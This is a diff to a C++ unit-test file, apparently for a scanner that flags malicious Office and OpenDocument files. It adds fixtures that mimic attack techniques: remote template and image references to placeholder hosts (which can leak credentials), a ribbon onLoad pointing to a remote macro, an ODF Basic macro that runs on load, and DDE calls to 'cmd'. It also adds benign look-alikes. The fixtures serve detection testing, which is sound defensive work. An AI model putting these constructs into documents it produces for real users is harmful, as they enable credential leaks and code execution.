@@ -33,6 +33,28 @@ std::string office(const Members& parts) {
     return packed(all);
 }
 
+std::string related(const std::string& kind, const std::string& target) {
+    return office(
+        {{"word/_rels/document.xml.rels", "<Relationship TargetMode=\"External\" Type=\"x/" + kind +
+                                              "\" Target=\"" + target + "\"/>"}});
+}
+
+std::string ribbon(const std::string& attribute) {
+    return office({{"customUI/customUI14.xml",
+                    "<customUI xmlns=\"http://schemas.microsoft.com/office/2009/07/customui\" " +
+                        attribute + "/>"}});
+}
+
+std::string open_document(const Members& parts) {
+    Members all = {{"mimetype", "application/vnd.oasis.opendocument.text"}};
+    all.insert(all.end(), parts.begin(), parts.end());
+    return packed(all);
+}
+
+const std::string kOpens =
+    "<script:event-listener script:event-name=\"dom:load\" "
+    "xlink:href=\"vnd.sun.star.script:Standard.M.run?language=Basic&amp;location=document\"/>";
+
 std::string pdf_opening(const std::string& action) {
     return "%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<<" + action +
            ">>>>endobj\ntrailer<</Root 1 0 R>>\n";
@@ -98,6 +120,22 @@ std::vector<Dropper> droppers() {
          Dde},
         {"c.docx", office({{"word/document.xml", "<w:fldSimple w:instr=\"DDE c:\\x y\"/>"}}), Dde},
         {"d.docx", office({{"word/embeddings/facture.js", "x"}}), Script},
+        {"e.docx", ribbon("onLoad=\"https://x.example/a.dotm!Module.run\""), ExternalTemplate},
+        {"f.docx", related("image", "file://203.0.113.7/a.png"), ExternalTemplate},
+        {"g.docx", related("image", "\\\\x.example@SSL\\a\\b.png"), ExternalTemplate},
+        {"h.docx", related("attachedTemplate", "file:////x.example/a.dotm"), ExternalTemplate},
+        {"a.odt", open_document({{"Scripts/python/a.py", "print(1)"}}), Macro},
+        {"b.odt", open_document({{"content.xml", kOpens}}), MacroAutoRun},
+        {"c.ods",
+         open_document({{"content.xml", "<office:dde-source office:dde-application='cmd'/>"}}),
+         Dde},
+        {"d.odt",
+         open_document(
+             {{"content.xml", "<text:section-source xlink:href='https://x.example/a.odt'/>"}}),
+         ExternalTemplate},
+        {"e.odt",
+         open_document({{"content.xml", "<draw:image xlink:href='file://x.example/a.png'/>"}}),
+         ExternalTemplate},
         {"a.docm", packed({{"word/vbaProject.bin", "x"}, {"[Content_Types].xml", "<Types/>"}}),
          Macro},
         {"a.xlsx", office({{"xl/externalLinks/externalLink1.xml", "<ddeLink ddeService='cmd'/>"}}),
@@ -145,6 +183,14 @@ TEST(Droppers, WhatLooksLikeThemIsNone) {
         {"a.csv", "nom;montant\nPetit;12\nRoy;-3\n"},
         {"a.docx", office({{"word/document.xml", "<w:instrText> PAGE </w:instrText>"},
                            {"word/embeddings/table.xlsx", office({{"xl/workbook.xml", "<x/>"}})}})},
+        {"b.docx", related("image", "file:///C:/Users/accueil/logo.v2.png")},
+        {"c.docx", related("image", "\\\\SERVEUR\\commun\\logo.png")},
+        {"d.docx", related("image", "https://x.example/logo.png")},
+        {"e.docx", ribbon("onLoad=\"Ruban.ouvert\"")},
+        {"a.odt", open_document({{"content.xml",
+                                  "<text:p>Bonjour</text:p><draw:image xlink:href="
+                                  "'Pictures/a.png'/><draw:object xlink:href='./O 1'/>"},
+                                 {"styles.xml", "<style:style/>"}})},
         {"a.pdf", pdf_opening("/S/GoTo/D[0/Fit]")},
         {"a.zip", wrapped(packed({{"notes.txt", "x"}}), 1)},
         {"page.html",
